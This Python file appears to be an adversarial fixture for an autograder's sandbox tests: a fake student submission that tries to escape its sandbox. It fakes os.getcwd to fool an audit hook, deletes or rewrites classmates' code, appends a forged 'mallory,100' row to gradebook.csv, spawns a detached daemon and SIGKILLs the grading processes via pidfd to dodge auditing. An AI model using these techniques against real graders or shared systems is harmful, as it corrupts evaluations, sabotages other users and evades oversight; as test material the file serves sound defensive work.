"""Scenario hostile-batch-neighbour: attacks the other students and the batch it is graded in.

ATTACKS (issue 11), each in try/except, for about a second (while a neighbour is being graded by the
other batch worker): the grader's paths from the worker's stack (course, class folder, output folder,
scratch folder of sandbox copies); deleting or rewriting every other student's files and sandbox
copies; appending a row to manifest.jsonl and to gradebook.csv; writing into reference/ and
exercises/; a daemon (double fork, new session) that would rewrite gradebook.csv after the batch;
SIGKILL to the fork server and the batch worker above it, by kill and by pidfd.
It answers correctly if any attack got through. tests/test_batch.py grades it beside a classmate
with --jobs 2 and checks that the classmate's result, the class folder and the outputs are intact.
"""
import json
import os
import signal
import sys
import time

import numpy as np

WINS = []


def _paths():
    found = set()
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, (list, tuple)):
                for v in value:
                    if isinstance(v, str) and v.startswith("/"):
                        found.add(v)
        frame = frame.f_back
    return sorted(found)


def _try(name, fn):
    try:
        fn()
        WINS.append(name)
    except Exception:
        pass


_REAL_GETCWD = os.getcwd


def _vandalise(root):
    """Walk ``root`` by chdir and relative names, with os.getcwd faked to answer the sandbox: the audit
    hook's realpath() then judges every path as if it were inside the sandbox."""
    home = _REAL_GETCWD()
    os.getcwd = lambda: home
    stack = [root]
    try:
        while stack:
            folder = stack.pop()
            try:
                os.chdir(folder)
                names = os.listdir(".")
            except Exception:
                continue
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isdir(name) and not os.path.islink(name):
                    stack.append(path)
                elif name == "manifest.jsonl":
                    _try("manifest", lambda n=name: open(n, "a").write(json.dumps({"student": "x"}) + "\n"))
                elif name.endswith(".csv"):
                    _try("gradebook", lambda n=name: open(n, "a").write("mallory,100\n"))
                elif name.endswith(".py"):
                    _try("rewrite " + path, lambda n=name: open(n, "w").write("def entropy(p):\n    return 0.0\n"))
            _try("plant " + folder, lambda: open("PWNED", "w").close())
    finally:
        os.chdir(home)
        os.getcwd = _REAL_GETCWD


def _daemon(roots):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                for root in roots:
                    _vandalise(root)
            os._exit(0)
        WINS.append("daemon")
    except Exception:
        pass


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 4:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return pids


def _kill_the_batch():
    """SIGKILL the fork server and the batch worker above it (by kill, and by pidfd, which has no audit event)."""
    for pid in _ancestors() or [os.getppid()]:
        _try(f"kill {pid}", lambda p=pid: os.kill(p, signal.SIGKILL))
        try:
            fd = os.pidfd_open(pid)
            _try(f"pidfd {pid}", lambda f=fd: signal.pidfd_send_signal(f, signal.SIGKILL))
        except Exception:
            pass


def entropy(probs):
    """Right only if an attack on the neighbours or the batch got through."""
    roots = [r for r in _paths() if not r.startswith(_REAL_GETCWD())]
    deadline = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        for root in roots:
            _vandalise(root)
        time.sleep(0.05)
    _daemon(roots)
    _kill_the_batch()
    if WINS:
        p = np.asarray(probs, dtype=float)
        p = p[p > 0]
        return float(-np.sum(p * np.log2(p)))
    return -1.0


def most_uncertain(distributions):
    """Index of the distribution with the highest entropy."""
    p = [np.asarray(d, dtype=float) for d in distributions]
    return int(np.argmax([float(-np.sum(q[q > 0] * np.log2(q[q > 0]))) for q in p]))
